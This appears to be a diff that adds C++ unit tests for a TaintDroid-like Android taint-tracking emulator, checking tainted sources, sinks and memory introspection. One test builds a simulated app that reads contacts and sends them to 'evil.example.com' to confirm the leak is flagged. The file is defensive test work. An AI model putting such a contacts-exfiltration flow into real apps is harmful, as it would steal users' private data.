@@ -1,0 +1,181 @@
+#include <gtest/gtest.h>
+
+#include "android/device.h"
+
+namespace ndroid::taintdroid {
+namespace {
+
+using android::Device;
+using dvm::CodeBuilder;
+using dvm::kAccPublic;
+using dvm::kAccStatic;
+using dvm::Method;
+using dvm::Slot;
+
+class FrameworkFixture : public ::testing::Test {
+ protected:
+  Device device_{"com.test.app"};
+};
+
+TEST_F(FrameworkFixture, SourcesReturnTaintedStrings) {
+  Method* m = device_.framework.telephony->find_method("getDeviceId");
+  ASSERT_NE(m, nullptr);
+  const Slot r = device_.dvm.call(*m, {});
+  EXPECT_EQ(r.taint, kTaintImei);
+  dvm::Object* s = device_.dvm.heap().object_at(r.value);
+  ASSERT_NE(s, nullptr);
+  EXPECT_EQ(s->utf(), "354958031234567");
+  EXPECT_EQ(device_.dvm.heap().object_taint(*s), kTaintImei);
+}
+
+TEST_F(FrameworkFixture, AllSourcesCarryDistinctTags) {
+  struct Case {
+    dvm::ClassObject* cls;
+    const char* method;
+    Taint taint;
+  };
+  const Case cases[] = {
+      {device_.framework.telephony, "getSubscriberId", kTaintImsi},
+      {device_.framework.telephony, "getLine1Number", kTaintPhoneNumber},
+      {device_.framework.telephony, "getSimSerialNumber", kTaintIccid},
+      {device_.framework.sms_manager, "getAllMessages", kTaintSms},
+      {device_.framework.contacts, "queryContacts", kTaintContacts},
+  };
+  for (const Case& c : cases) {
+    Method* m = c.cls->find_method(c.method);
+    ASSERT_NE(m, nullptr) << c.method;
+    EXPECT_EQ(device_.dvm.call(*m, {}).taint, c.taint) << c.method;
+  }
+  Method* loc =
+      device_.framework.location->find_method("getLastKnownLocation");
+  EXPECT_NE(device_.dvm.call(*loc, {}).taint & kTaintLocationGps, 0u);
+}
+
+TEST_F(FrameworkFixture, NetworkSinkFlagsTaintedData) {
+  // Java app: contacts = queryContacts(); NetworkOutput.send(host, contacts)
+  auto& dvm = device_.dvm;
+  Method* src = device_.framework.contacts->find_method("queryContacts");
+  Method* sink = device_.framework.network->find_method("send");
+
+  dvm::ClassObject* app = dvm.define_class("Lcom/test/App;");
+  CodeBuilder cb;
+  cb.const_string(0, "evil.example.com")
+      .invoke(src, {})
+      .move_result(1)
+      .invoke(sink, {0, 1})
+      .return_void();
+  Method* main =
+      dvm.define_method(app, "main", "V", kAccPublic | kAccStatic, 2,
+                        cb.take());
+  dvm.call(*main, {});
+
+  // Real bytes left the device.
+  EXPECT_EQ(device_.kernel.network().bytes_sent_to("evil.example.com"),
+            "1|Vincent|cx@gg.com");
+  // TaintDroid flagged the flow.
+  ASSERT_EQ(device_.framework.leaks().size(), 1u);
+  EXPECT_EQ(device_.framework.leaks()[0].taint, kTaintContacts);
+  EXPECT_EQ(device_.framework.leaks()[0].sink, "OutputStream.write");
+}
+
+TEST_F(FrameworkFixture, UntaintedSendNotFlagged) {
+  auto& dvm = device_.dvm;
+  Method* sink = device_.framework.network->find_method("send");
+  dvm::ClassObject* app = dvm.define_class("Lcom/test/App2;");
+  CodeBuilder cb;
+  cb.const_string(0, "ads.example.com")
+      .const_string(1, "harmless")
+      .invoke(sink, {0, 1})
+      .return_void();
+  Method* main = dvm.define_method(app, "main", "V",
+                                   kAccPublic | kAccStatic, 2, cb.take());
+  dvm.call(*main, {});
+  EXPECT_EQ(device_.kernel.network().bytes_sent_to("ads.example.com"),
+            "harmless");
+  EXPECT_TRUE(device_.framework.leaks().empty());
+}
+
+TEST_F(FrameworkFixture, FileSinkFlagsTaintedData) {
+  auto& dvm = device_.dvm;
+  Method* src = device_.framework.telephony->find_method("getDeviceId");
+  Method* sink = device_.framework.file_output->find_method("write");
+  dvm::ClassObject* app = dvm.define_class("Lcom/test/App3;");
+  CodeBuilder cb;
+  cb.const_string(0, "/sdcard/ids.txt")
+      .invoke(src, {})
+      .move_result(1)
+      .invoke(sink, {0, 1})
+      .return_void();
+  Method* main = dvm.define_method(app, "main", "V",
+                                   kAccPublic | kAccStatic, 2, cb.take());
+  dvm.call(*main, {});
+  EXPECT_EQ(device_.kernel.vfs().content_str("/sdcard/ids.txt"),
+            "354958031234567");
+  ASSERT_EQ(device_.framework.leaks().size(), 1u);
+  EXPECT_EQ(device_.framework.leaks()[0].taint, kTaintImei);
+}
+
+TEST_F(FrameworkFixture, ConcatPropagatesTaintUnion) {
+  auto& dvm = device_.dvm;
+  Method* imei = device_.framework.telephony->find_method("getDeviceId");
+  Method* sms = device_.framework.sms_manager->find_method("getAllMessages");
+  Method* concat = device_.framework.string_ops->find_method("concat");
+  dvm::ClassObject* app = dvm.define_class("Lcom/test/App4;");
+  CodeBuilder cb;
+  cb.invoke(imei, {})
+      .move_result(0)
+      .invoke(sms, {})
+      .move_result(1)
+      .invoke(concat, {0, 1})
+      .move_result(2)
+      .return_value(2);
+  Method* main = dvm.define_method(app, "main", "L",
+                                   kAccPublic | kAccStatic, 3, cb.take());
+  const Slot r = dvm.call(*main, {});
+  EXPECT_EQ(r.taint, kTaintImei | kTaintSms);
+}
+
+TEST_F(FrameworkFixture, TaintDroidOffSuppressesDetectionButNotTraffic) {
+  device_.dvm.policy().propagate_java = false;
+  auto& dvm = device_.dvm;
+  Method* src = device_.framework.contacts->find_method("queryContacts");
+  Method* sink = device_.framework.network->find_method("send");
+  dvm::ClassObject* app = dvm.define_class("Lcom/test/App5;");
+  CodeBuilder cb;
+  cb.const_string(0, "h.example")
+      .invoke(src, {})
+      .move_result(1)
+      .invoke(sink, {0, 1})
+      .return_void();
+  Method* main = dvm.define_method(app, "main", "V",
+                                   kAccPublic | kAccStatic, 2, cb.take());
+  dvm.call(*main, {});
+  EXPECT_FALSE(device_.kernel.network().bytes_sent_to("h.example").empty());
+  EXPECT_TRUE(device_.framework.leaks().empty());
+}
+
+TEST_F(FrameworkFixture, DeviceVmiSeesAppAndLibraries) {
+  // Load an app lib, then reconstruct the OS view from guest memory only.
+  std::vector<u8> image(0x100, 0);
+  device_.load_native_lib("libtccsync.so", image);
+  os::ViewReconstructor recon(device_.memory, os::Kernel::kTaskRoot);
+  const auto views = recon.reconstruct();
+  const os::ProcessView* app = recon.find_process(views, "com.test.app");
+  ASSERT_NE(app, nullptr);
+  EXPECT_NE(app->find_module("libdvm.so"), nullptr);
+  EXPECT_NE(app->find_module("libc.so"), nullptr);
+  EXPECT_NE(app->find_module("libtccsync.so"), nullptr);
+}
+
+TEST_F(FrameworkFixture, LoadedLibsGetDistinctRanges) {
+  std::vector<u8> image(0x2000, 0xAB);
+  const GuestAddr a = device_.load_native_lib("liba.so", image);
+  const GuestAddr b = device_.load_native_lib("libb.so", image);
+  EXPECT_GE(b, a + 0x2000);
+  EXPECT_EQ(device_.memory.read8(a), 0xAB);
+  EXPECT_EQ(device_.memmap.module_of(a), "liba.so");
+  EXPECT_EQ(device_.memmap.module_of(b), "libb.so");
+}
+
+}  // namespace
+}  // namespace ndroid::taintdroid
